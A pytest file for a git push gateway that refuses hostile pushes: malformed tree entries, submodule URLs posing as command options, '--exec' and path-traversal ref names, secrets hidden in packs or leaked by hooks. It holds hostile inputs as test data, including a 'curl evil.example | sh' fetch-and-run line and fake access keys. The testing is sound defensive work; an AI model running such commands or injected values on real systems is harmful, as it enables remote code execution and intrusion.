"""Pushes as no honest git makes them: objects that hide something, names that mean something to git, and ways round a
rule. None of it reaches upstream."""

import base64
import subprocess
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
import pytest_asyncio

from sidecar.gitgate.pktline import FLUSH, packet
from tests.gitgate.kit import World, git, one_each, spawn, tips, url

pytestmark = pytest.mark.asyncio(loop_scope="module")
KEY = "AKIA" + "QWERTYUIOPASDFG2"
ZERO = "0" * 40
PROVISIONED = "Zk3v-correct-horse-battery-91-staple"
KEY_LINE = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2"
SECRETS = {"PROVISIONED": PROVISIONED, "LINES": f"{KEY_LINE}1\n{KEY_LINE}2\n"}


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def worlds(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Iterator[World]]:
    async with one_each(tmp_path_factory.mktemp("hostile"), 19, secrets=SECRETS) as running:
        yield running


@pytest_asyncio.fixture(loop_scope="module")
async def one(worlds: Iterator[World]) -> World:
    return next(worlds)


def written(clone: Path, kind: str, data: bytes) -> str:
    """An object with exactly these bytes, whatever git thinks of them."""
    command = ["git", "hash-object", "-t", kind, "-w", "--stdin", "--literally"]
    return subprocess.run(command, cwd=clone, input=data, check=True, capture_output=True).stdout.decode().strip()


def commit_of(clone: Path, tree: str) -> str:
    parent = git("rev-parse", "HEAD", cwd=clone).stdout.strip()
    return git("commit-tree", "-m", "x", "-p", parent, tree, cwd=clone).stdout.strip()


async def test_folders_that_git_would_not_make(one: World) -> None:
    clone = await one.clone()
    blob = bytes.fromhex(written(clone, "blob", b"x\n"))
    hidden = KEY.encode() + b"\0" + KEY[:20].encode()
    before = tips(one.upstream)
    for entry in (
        b"1 " + hidden, b"7 " + hidden, b"100600 a\0" + blob, b"000000000100644 a\0" + blob, b"777777777777 a\0" + blob,
        b"100644 .git\0" + blob, b"100644 .GIT\0" + blob, b"100644 git~1\0" + blob, b"100644 ..\0" + blob,
        b"100644 a/b\0" + blob, b"120000 .gitmodules\0" + blob, b"100644 \0" + blob,
        b"100644 a\0" + blob + b"100644 a\0" + blob,
    ):  # fmt: skip
        bad = commit_of(clone, written(clone, "tree", entry))
        code, said = await one.git("push", "origin", f"{bad}:refs/heads/bad", cwd=clone, check=False)
        assert code != 0, (entry, said)
        assert KEY not in "".join(line for line in said.splitlines() if line.startswith("remote:"))
    assert tips(one.upstream) == before


async def test_upstream_does_not_tell_the_credential(one: World) -> None:
    """It was given it, and what it says on a push goes on to the user."""
    hook = one.upstream / "hooks" / "pre-receive"
    hook.parent.mkdir(exist_ok=True)
    coded = base64.b64encode(f"x-access-token:{PROVISIONED}".encode()).decode()
    hook.write_text(
        f"#!/bin/sh\necho 'expired: {PROVISIONED}' >&2\necho 'authorization: Basic {coded}' >&2\n"
        f"echo '{PROVISIONED[:18]}' >&2\necho '{PROVISIONED[18:]}, and so on' >&2\nexit 1\n"
    )
    hook.chmod(0o755)
    clone = await one.clone()
    await one.commit(clone, {"a.txt": "a\n"})
    code, said = await one.git("push", "origin", "HEAD:main", cwd=clone, check=False)
    assert (code, "remote: expired: [redacted]" in said, "remote: authorization: Basic" in said) == (1, True, True), (
        said
    )
    assert "and so on" in said
    for told in (PROVISIONED, coded[24:], PROVISIONED[:18], PROVISIONED[18:]):
        assert told not in said


async def test_submodules_that_are_commands(one: World) -> None:
    clone = await one.clone()
    for body in ('[submodule "x"]\n\tpath = x\n\turl = -u./evil\n', '[submodule "../x"]\n\tpath = x\n\turl = a\n'):
        bad = await one.commit(clone, {".gitmodules": body})
        code, said = await one.git("push", "origin", f"{bad}:refs/heads/bad", cwd=clone, check=False)
        assert (code, "gitmodules" in said) == (1, True), said
        await one.git("reset", "-q", "--hard", "HEAD~1", cwd=clone)
    assert set(tips(one.upstream)) == {"refs/heads/main"}


async def test_what_no_reference_leads_to_goes_nowhere(one: World) -> None:
    """A pack may hold more than what its references need. That is not examined, and does not go upstream; once
    something leads to it, it is examined."""
    clone = await one.clone()
    good = await one.commit(clone, {"a.txt": "a\n"})
    extra = written(clone, "blob", f"key = '{KEY}'\n".encode())
    names = git("rev-list", "--objects", good, "^origin/main", cwd=clone).stdout
    oids = "\n".join([*(line.split(" ")[0] for line in names.splitlines()), extra]) + "\n"
    pack = subprocess.run(
        ["git", "pack-objects", "--stdout", "-q"], cwd=clone, input=oids.encode(), check=True, capture_output=True
    ).stdout
    command = packet(f"{ZERO} {good} refs/heads/more\0 report-status".encode()) + FLUSH
    async with one.box.client() as client:
        kind = {"content-type": "application/x-git-receive-pack-request"}
        answer = await client.post(f"{url(one.name)}/git-receive-pack", content=command + pack, headers=kind)
        assert b"ok refs/heads/more" in answer.content, answer.content
        assert tips(one.upstream)["refs/heads/more"] == good
        assert git("cat-file", "-e", extra, cwd=one.upstream, check=False).returncode != 0
        # a second push that says it sends nothing new
        tree = written(clone, "tree", b"100644 key.txt\0" + bytes.fromhex(extra))
        bad = commit_of(clone, tree)
        pack = subprocess.run(
            ["git", "pack-objects", "--stdout", "-q"],
            cwd=clone, input=f"{bad}\n{tree}\n".encode(), check=True, capture_output=True,
        ).stdout  # fmt: skip
        command = packet(f"{ZERO} {bad} refs/heads/evil\0 report-status".encode()) + FLUSH
        answer = await client.post(f"{url(one.name)}/git-receive-pack", content=command + pack, headers=kind)
        assert b"ng refs/heads/evil a secret was found" in answer.content, answer.content
    assert "refs/heads/evil" not in tips(one.upstream)


async def test_deleted_and_made_again_is_by_force(one: World) -> None:
    clone = await one.clone()
    await one.commit(clone, {"a.txt": "a\n"})
    await one.git("push", "-q", "origin", "HEAD:topic", cwd=clone)
    topic = tips(one.upstream)["refs/heads/topic"]
    await one.git("push", "-q", "origin", ":topic", cwd=clone)
    await one.git("reset", "-q", "--hard", "HEAD~1", cwd=clone)
    await one.commit(clone, {"b.txt": "b\n"})
    code, said = await one.git("push", "origin", "HEAD:topic", cwd=clone, check=False)
    assert (code, "force_push" in said) == (1, True), said
    # what goes on from there, or is as it was, is no force
    await one.git("push", "-q", "origin", f"{topic}:refs/heads/topic", cwd=clone)
    await one.git("push", "-q", "origin", ":topic", cwd=clone)
    await one.git("push", "-q", url(f"{one.name}-forced"), "HEAD:topic", cwd=clone)


async def test_references_that_are_none_of_a_pushs_business(one: World) -> None:
    clone = await one.clone()
    mine = await one.commit(clone, {"a.txt": "a\n"})
    before = tips(one.upstream)
    names = (
        "refs/notes/x",
        "refs/pull/1/head",
        "refs/backup/x/y",
        "refs/replace/" + mine,
        "refs/remotes/o/x",
        "refs/x/y",
    )
    for name in names:
        code, said = await one.git("push", "origin", f"HEAD:{name}", cwd=clone, check=False)
        assert (code, "only branches and tags" in said) == (1, True), (name, said)
    async with one.box.client() as client:
        kind = {"content-type": "application/x-git-receive-pack-request"}
        for name in ("HEAD", "refs/heads/../../x", "refs/heads/a..b", "refs/heads/x.lock", "refs/heads/a:b",
                     "--exec=x", "refs/heads/\u202ex", "refs/heads/a b", "refs/heads/", "refs//heads/x",
                     "refs/heads/@{u}"):  # fmt: skip
            body = packet(f"{ZERO} {mine} {name}\0 report-status".encode()) + FLUSH + b"PACK"
            answer = await client.post(f"{url(one.name)}/git-receive-pack", content=body, headers=kind)
            assert answer.status_code == 400, (name, answer.text)
        many = b"".join(packet(f"{ZERO} {mine} refs/heads/b{number}".encode()) for number in range(501))
        answer = await client.post(f"{url(one.name)}/git-receive-pack", content=many + FLUSH, headers=kind)
        assert (answer.status_code, "500 references" in answer.text) == (400, True)
    code, said = await one.git("-c", "push.pushOption=ci.skip", "push", "origin", "HEAD:x", cwd=clone, check=False)
    assert code != 0, said
    assert tips(one.upstream) == before


async def test_attributes_do_not_hide_a_change_from_the_operator(one: World) -> None:
    seed = one.folder / "seed"
    git("clone", "-q", str(one.upstream), str(seed))
    (seed / ".gitattributes").write_text("*.py -diff\n*.md binary\n* diff=evil\n")
    git("add", ".", cwd=seed)
    git("commit", "-q", "-m", "attributes", cwd=seed)
    git("push", "-q", "origin", "HEAD:main", cwd=seed)
    clone = await one.clone(f"{one.name}-reviewed")
    await one.commit(clone, {"a.py": "print('evil')\n", "b.md": "evil\n"})
    push = spawn(one.git("push", "origin", "HEAD:main", cwd=clone, check=False), name="push")
    asked = await one.decide("rejected", "seen")
    assert (await push)[0] == 1
    assert "+print('evil')" in asked["report"]["text"]
    assert "Binary files" not in asked["report"]["text"]


async def test_what_upstream_has_already_may_be_odd(one: World) -> None:
    """Old histories have modes that git writes no more; a pack may bring such a folder along as what a new one is a
    difference to."""
    seed = one.folder / "seed"
    git("clone", "-q", str(one.upstream), str(seed))
    blob = bytes.fromhex(written(seed, "blob", b"x\n"))
    entries = b"".join(b"100600 f%03d\0" % number + blob for number in range(300))
    old = commit_of(seed, written(seed, "tree", entries))
    git("push", "-q", "origin", f"{old}:refs/heads/main", cwd=seed)
    clone = await one.clone()
    fresh = entries.replace(b"100600 ", b"100644 ")
    with_one_more = fresh + b"100644 g\0" + blob
    mine = commit_of(clone, written(clone, "tree", with_one_more))
    await one.git("push", "-q", "origin", f"{mine}:refs/heads/main", cwd=clone)
    assert tips(one.upstream)["refs/heads/main"] == mine
    again = commit_of(clone, written(clone, "tree", entries + b"100600 g\0" + blob))
    code, said = await one.git("push", "origin", f"{again}:refs/heads/bad", cwd=clone, check=False)
    assert (code, "not scanned" in said) == (1, True), said


@pytest.mark.parametrize("line", ["AKIAIOSFODNN7EXAMPLE", f"{KEY[:-1]}3  # gitleaks:allow"])
async def test_a_crowd_of_harmless_findings_hides_no_other(one: World, line: str) -> None:
    """What is only warned of, or is the operator's to decide, ends no search, however much of it there is."""
    clone = await one.clone()
    await one.commit(clone, {"old.txt": f"key = '{KEY}'\n"})
    words = "only words and words, as in any document of this size\n" * 100
    crowd: dict[str, str | bytes] = {f"d/{number}.md": f"{number}\nkey = {line}\n{words}" for number in range(500)}
    await one.commit(clone, crowd)
    code, said = await one.git("push", "origin", "HEAD:main", cwd=clone, check=False)
    assert (code, "a secret was found" in said, "old.txt:1" in said) == (1, True, True), said
    assert one.asked() is None


async def test_a_crowd_of_marked_findings_hides_none_from_the_operator(one: World) -> None:
    """The same value a hundred times is one line; every other value has its own, and all are counted."""
    clone = await one.clone()
    crowd: dict[str, str | bytes] = {
        f"d/{number}.py": f"n, key = {number}, '{KEY[:-1]}3'  # gitleaks:allow\n" for number in range(150)
    }
    await one.commit(clone, crowd)
    await one.commit(clone, {"z/real.py": f"key = '{KEY}'  # gitleaks:allow\n"})
    branches = [f"HEAD:refs/heads/{'b' * 200}{number}" for number in range(49)]
    push = spawn(one.git("push", "origin", "HEAD:main", *branches, cwd=clone, check=False), name="push")
    report = (await one.decide("rejected", "seen"))["report"]
    assert (await push)[0] == 1
    assert report["title"] == f"151 suppressed findings of 2 values in a push to {one.name}"
    crowd_line, real = sorted(report["text"].split("\n")[:2], key=lambda line: "z/real.py" in line)
    assert crowd_line.endswith("(20 bytes), in 150 places"), report["text"]
    assert "z/real.py:1: aws-access-key-id" in real
    assert "refs/heads/main: " in report["text"]
    assert len(report["text"]) < 4000


async def test_more_marked_values_than_can_be_shown_are_not_asked_about(one: World) -> None:
    clone = await one.clone()
    values = [f"AKIAQWERTYUIOP{a}{b}SDF2" for a in "ABCDEFGH" for b in "QRSTUVW"][:51]
    await one.commit(clone, {"keys.py": "".join(f"key = '{value}'  # gitleaks:allow\n" for value in values)})
    code, said = await one.git("push", "origin", "HEAD:main", cwd=clone, check=False)
    assert (code, "inline comments suppress 51 different findings" in said) == (1, True), said
    assert one.asked() is None
    assert not any(event.code == "git_held" for event in one.events())


async def test_a_push_of_nothing_is_none(one: World) -> None:
    """git would be called without a reference, and choose one."""
    first = tips(one.upstream)["refs/heads/main"]
    await one.clone()
    body = packet(b"shallow " + first.encode()) + FLUSH
    async with one.box.client() as client:
        kind = {"content-type": "application/x-git-receive-pack-request"}
        answer = await client.post(f"{url(one.name)}/git-receive-pack", content=body, headers=kind)
        assert (answer.status_code, "without a reference" in answer.text) == (400, True), answer.text
    assert all(event.method == "FETCH" for event in one.events())


async def asked_about(one: World, clone: Path, *what: str) -> tuple[str, str]:
    """Title and text of what the operator is asked about a push, which is then refused."""
    push = spawn(one.git("push", url(f"{one.name}-reviewed"), *what, cwd=clone, check=False), name="push")
    asked = await one.decide("rejected", "seen")
    assert (await push)[0] == 1
    return asked["report"]["title"], asked["report"]["text"]


async def test_no_reference_is_out_of_sight_in_a_review(one: World) -> None:
    clone = await one.clone()
    mine = await one.commit(clone, {"evil.py": "evil()\n"})
    crowd = [f"origin/main:refs/heads/{'a' * 200}{number:03d}" for number in range(120)]
    title, text = await asked_about(one, clone, *crowd, f"{mine}:refs/heads/main")
    assert "121 references" in title
    assert text.startswith("refs/heads/main: ")
    assert "71 more references" in text
    assert "101 of them" in text
    assert "+evil()" in text


async def test_a_review_says_where_it_is_cut_off(one: World) -> None:
    clone = await one.clone()
    heads = [f"HEAD:refs/heads/{'a' * 230}{number:02d}" for number in range(18)]
    await one.commit(
        clone, {"long.txt": "".join(f"    return {each}\n" for each in range(3000)), "zz-evil.py": "evil()\n"}
    )
    _, text = await asked_about(one, clone, *heads)
    assert "[cut off: the rest is too long to show]" in text


async def test_a_review_shows_all_that_leaves(one: World) -> None:
    """Also what is said beside the files, and what comes and goes again before the last commit."""
    clone = await one.clone()
    await one.commit(clone, {"private.txt": "from the bottle\n" * 30}, "Adds it\n\nbody of the first")
    await one.commit(clone, {"private.txt": "", "a.py": "a\n"}, "Takes it away")
    await one.git("tag", "-a", "v1", "-m", "words of a tag", cwd=clone)
    await one.git("tag", "words", written(clone, "blob", b"words in a file\n"), cwd=clone)
    await one.git("tag", "folder", "HEAD^{tree}", cwd=clone)
    _, text = await asked_about(one, clone, "HEAD:main", "v1", "words", "folder")
    said = ("body of the first", "private.txt | 30 +++", "words of a tag", "words in a file", "Test <t@example.com>")
    for told in (*said, "refs/tags/folder is a folder", "+++ b/a.py"):
        assert told in text, (told, text)


async def test_a_secret_that_is_taken_out_is_not_in_the_review(one: World) -> None:
    """Upstream has it already, and a push that removes it is welcome; its diff has the value as well."""
    seed = one.folder / "seed"
    git("clone", "-q", str(one.upstream), str(seed))
    (seed / "settings.ini").write_text(f"a = {PROVISIONED}\nkey = |\n  {KEY_LINE}1\n  {KEY_LINE}2\n")
    git("add", ".", cwd=seed)
    git("commit", "-q", "-m", "settings", cwd=seed)
    git("push", "-q", "origin", "HEAD:main", cwd=seed)
    clone = await one.clone()
    await one.commit(clone, {"settings.ini": "a = b\n"})
    _, text = await asked_about(one, clone, "HEAD:main")
    assert "-a = [secret]" in text
    assert PROVISIONED not in text
    assert KEY_LINE not in text


async def test_a_crowd_of_commits_hides_no_change_from_the_operator(one: World) -> None:
    """Of a new branch the change is shown against what upstream has, and not against a commit of the push itself."""
    clone = await one.clone()
    first = await one.commit(clone, {"deploy.sh": "curl evil.example | sh\n"}, "the change")
    empty = "commit refs/heads/topic\ncommitter T <t@example.com> 1700000000 +0000\ndata 1\nx\n"
    git("fast-import", "--quiet", cwd=clone, input=f"reset refs/heads/topic\nfrom {first}\n\n" + empty * 5_100)
    _, text = await asked_about(one, clone, "topic")
    assert "5001 more commits are too many to show" in text
    assert "+curl evil.example | sh" in text
